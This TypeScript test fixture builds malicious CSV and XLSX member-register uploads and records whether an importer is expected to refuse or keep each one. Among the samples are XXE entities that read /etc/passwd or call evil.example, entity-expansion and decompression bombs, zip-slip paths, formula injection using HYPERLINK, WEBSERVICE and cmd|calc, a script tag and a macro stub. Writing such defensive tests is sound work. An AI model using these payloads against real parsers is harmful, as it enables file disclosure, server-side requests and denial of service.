/** Member registers that are made to do harm, by the name of the file they come as. */
import type { HostileImport } from './hostile-statements.ts';
import { type ZipPart, zipOf } from './small-zip.ts';

export type HostileRegister = HostileImport & { name: 'r.csv' | 'r.xlsx' };

const heading = 'Medlemsnr;Fornavn;Etternavn;Født;Innmeldt;E-post;Adresse;Postnr;Poststed;Land';
/** A member who is not in the demo. */
const row = (
  change: Partial<
    Record<'number' | 'given' | 'family' | 'born' | 'email' | 'line' | 'code' | 'place' | 'country', string>
  > = {},
) => {
  const cells = {
    number: '399001',
    given: 'Ada',
    family: 'Nordmann',
    born: '01.01.1980',
    joined: '01.01.2000',
    email: 'ada@medlem.example',
    line: 'Storgata 1',
    code: '0182',
    place: 'Oslo',
    country: '',
    ...change,
  };
  return Object.values(cells).join(';');
};
const csv = (...lines: string[]) => Buffer.from([heading, ...lines].join('\r\n'));
const honest = Array.from({ length: 450 }, (_, at) => row({ number: String(399_000 + at), email: '' }));

const relations = (...list: [id: string, type: string, target: string][]) =>
  `<Relationships>${list.map(([id, type, target]) => `<Relationship Id="${id}" Type="http://x/${type}" Target="${target}"/>`).join('')}</Relationships>`;
const cell = (text: string) => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
const cells = (line: string) => `<row>${line.split(';').map(cell).join('')}</row>`;
function sheetOf(
  rows: string,
  more: { before?: string; target?: string; parts?: ZipPart[]; claimedBytes?: number } = {},
) {
  const { before = '', target = 'worksheets/sheet1.xml', parts = [], claimedBytes } = more;
  return zipOf([
    { name: '_rels/.rels', content: relations(['r1', 'officeDocument', 'xl/workbook.xml']) },
    { name: 'xl/workbook.xml', content: '<workbook><sheets><sheet name="A" r:id="r1"/></sheets></workbook>' },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content: relations(['r1', 'worksheet', target], ['r2', 'sharedStrings', 'sharedStrings.xml']),
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      content: `${before}<worksheet><sheetData>${rows}</sheetData></worksheet>`,
      ...(claimedBytes && { claimedBytes }),
    },
    ...parts,
  ]);
}
const sheet = (...lines: string[]) => [heading, ...lines].map(cells).join('');
const strings = (content: string) => ({
  parts: [{ name: 'xl/sharedStrings.xml', content: `<sst>${content}</sst>` }],
});

const csvFiles: [what: string, outcome: HostileRegister['outcome'], bytes: () => Buffer][] = [
  ['a NUL byte in a name', 'refused', () => csv(row({ given: 'A\u0000da' }))],
  ['NUL bytes behind 450 honest rows', 'refused', () => csv(...honest, row({ line: '\u0000' }))],
  ['UTF-16', 'refused', () => Buffer.from(`\ufeff${csv(row())}`, 'utf16le')],
  ['a spreadsheet under another name', 'refused', () => sheetOf(sheet(row()))],
  ['a program', 'refused', () => Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(500)])],
  ['a row of ten megabytes', 'refused', () => csv(row({ line: 'x'.repeat(10_000_000) }))],
  ['ten megabytes without an end of line', 'refused', () => Buffer.alloc(10_000_000, 'x')],
  ['a row of a million cells', 'refused', () => csv(row() + ';'.repeat(1_000_000))],
  [
    'a quotation mark that never ends, behind 450 honest rows',
    'refused',
    () => csv(...honest, `"${row()}`, row()),
  ],
  ['words behind a quotation mark', 'kept', () => csv(row({ line: '"Storgata" 1"x"' }))],
  ['columns that are missing', 'refused', () => Buffer.from('Navn;Alder\r\nAda;40')],
  [
    'an e-mail address of many kilobytes',
    'kept',
    () => csv(row({ email: `${'a'.repeat(150_000)}@medlem.example` })),
  ],
  ['a formula as a name', 'kept', () => csv(row({ given: '=HYPERLINK("http://evil.example")' }))],
  ['a formula as a number', 'kept', () => csv(row({ number: '=1+1' }))],
  ['a negative number', 'kept', () => csv(row({ number: '-1' }))],
  ['a number of a hundred digits', 'kept', () => csv(row({ number: '9'.repeat(100) }))],
  ['a birth date far beyond the calendar', 'kept', () => csv(row({ born: '99.99.99999' }))],
  ['markup as a name', 'kept', () => csv(row({ given: '<script>alert(1)</script>' }))],
  ['control characters in an address', 'kept', () => csv(row({ line: 'Storgata\u0007\u001b[31m 1' }))],
  [
    'control characters in an address abroad',
    'kept',
    () => csv(row({ code: '\u0007\u001b[31m', country: 'SE' })),
  ],
  ['control characters in an e-mail address', 'kept', () => csv(row({ email: 'a\u0007b@medlem.example' }))],
  ['letters that turn the text round', 'kept', () => csv(row({ given: 'A\u202eda' }))],
  ['half a UTF-8 letter', 'refused', () => Buffer.concat([csv(row()), Buffer.from([0xc3])])],
  ['the same member a thousand times', 'kept', () => csv(...Array.from({ length: 1_000 }, () => row()))],
];
const xlsxFiles: [what: string, outcome: HostileRegister['outcome'], bytes: () => Buffer][] = [
  [
    'entities that grow to gigabytes',
    'refused',
    () =>
      sheetOf(sheet(row({ given: '&l9;' })), {
        before: `<!DOCTYPE l [<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')}]>`,
      }),
  ],
  [
    'an entity that reads a file of the server',
    'refused',
    () =>
      sheetOf(sheet(row({ line: '&x;' })), {
        before: '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
      }),
  ],
  [
    'an entity that asks another server',
    'refused',
    () => sheetOf(sheet(row()), { before: '<!DOCTYPE x [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>' }),
  ],
  [
    'rows that unpack to four hundred times their size',
    'refused',
    () => sheetOf(sheet(row()) + '<row/>'.repeat(3_000_000)),
  ],
  [
    'a sheet that unpacks to two hundred megabytes of nothing',
    'refused',
    () => sheetOf(' '.repeat(200_000_000)),
  ],
  ['a sheet that says it is small', 'refused', () => sheetOf(sheet(...honest), { claimedBytes: 500 })],
  [
    'a sheet that says it is a terabyte',
    'refused',
    () => sheetOf(sheet(row()), { claimedBytes: 0xffffffff }),
  ],
  ['a million levels', 'refused', () => sheetOf(sheet(row()) + '<a>'.repeat(1_000_000))],
  ['a cell of megabytes', 'refused', () => sheetOf(cells(`${heading};${'x'.repeat(5_000_000)}`))],
  [
    'a cell of a million pieces',
    'refused',
    () => sheetOf(`<row><c t="inlineStr"><is>${'<r><t>xx</t></r>'.repeat(300_000)}</is></c></row>`),
  ],
  [
    'a shared text of a million pieces',
    'refused',
    () => sheetOf(sheet(row()), strings(`<si>${'<r><t>xx</t></r>'.repeat(300_000)}</si>`)),
  ],
  [
    'a shared text with half a number',
    'refused',
    () =>
      sheetOf('<row><c t="s"><v>0.5</v></c></row>', strings('<si><t>Medlemsnr</t></si><si><t>x</t></si>')),
  ],
  [
    'a shared text that is not there',
    'refused',
    () => sheetOf('<row><c t="s"><v>99999999999</v></c></row>', strings('')),
  ],
  [
    'a name that leads out of the folder',
    'refused',
    () => sheetOf(sheet(row()), { parts: [{ name: '../../../etc/cron.d/evil', content: 'x' }] }),
  ],
  [
    'a name from the root',
    'refused',
    () => sheetOf(sheet(row()), { parts: [{ name: '/etc/passwd', content: 'x' }] }),
  ],
  [
    'a name of Windows',
    'refused',
    () => sheetOf(sheet(row()), { parts: [{ name: 'C:/windows/x', content: 'x' }] }),
  ],
  [
    'a sheet outside the archive',
    'refused',
    () => sheetOf(sheet(row()), { target: '../../../../etc/passwd' }),
  ],
  [
    'ten thousand parts',
    'refused',
    () =>
      sheetOf(sheet(row()), {
        parts: Array.from({ length: 10_000 }, (_, at) => ({ name: `xl/p${at}.xml`, content: '' })),
      }),
  ],
  ['half an archive', 'refused', () => sheetOf(sheet(...honest)).subarray(0, 1_500)],
  ['cut off behind 450 honest rows', 'refused', () => sheetOf(`${sheet(...honest)}<row><c`)],
  ['a NUL byte in the sheet', 'refused', () => sheetOf(sheet(...honest, row({ given: 'A\u0000da' })))],
  [
    'bytes that are no UTF-8',
    'refused',
    () => sheetOf(`${Buffer.from([0xc3, 0x28]).toString('latin1')}\uFFFE`),
  ],
  [
    'a protected spreadsheet',
    'refused',
    () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(500)]),
  ],
  ['a CSV under another name', 'refused', () => csv(row())],
  ['a web page', 'refused', () => Buffer.from('<html><script>alert(1)</script></html>')],
  [
    'a PDF that is an archive too',
    'refused',
    () => Buffer.concat([Buffer.from('%PDF-1.7\n'), sheetOf(sheet(row()))]),
  ],
  [
    'a formula with what it last came to',
    'kept',
    () =>
      sheetOf(
        sheet() +
          cells(row()).replace(
            cell('Ada'),
            '<c t="str"><f>WEBSERVICE("http://evil.example")</f><v>=cmd|calc</v></c>',
          ),
      ),
  ],
  ['a cell far to the right', 'kept', () => sheetOf(`${sheet()}<row><c r="ZZZ1"><v>1</v></c></row>`)],
  [
    'a row with a number that is none',
    'kept',
    () => sheetOf(`${sheet()}<row r="evil"><c><v>1</v></c></row>`),
  ],
  [
    'macros beside the sheet',
    'kept',
    () => sheetOf(sheet(row()), { parts: [{ name: 'xl/vbaProject.bin', content: 'Sub AutoOpen()' }] }),
  ],
  [
    'links to other files beside the sheet',
    'kept',
    () =>
      sheetOf(sheet(row()), {
        parts: [{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' }],
      }),
  ],
];

/** At least forty. */
export const hostileRegisters: HostileRegister[] = [
  ...csvFiles.map(([what, outcome, bytes]) => ({
    what: `CSV: ${what}`,
    outcome,
    bytes,
    name: 'r.csv' as const,
  })),
  ...xlsxFiles.map(([what, outcome, bytes]) => ({
    what: `XLSX: ${what}`,
    outcome,
    bytes,
    name: 'r.xlsx' as const,
  })),
];
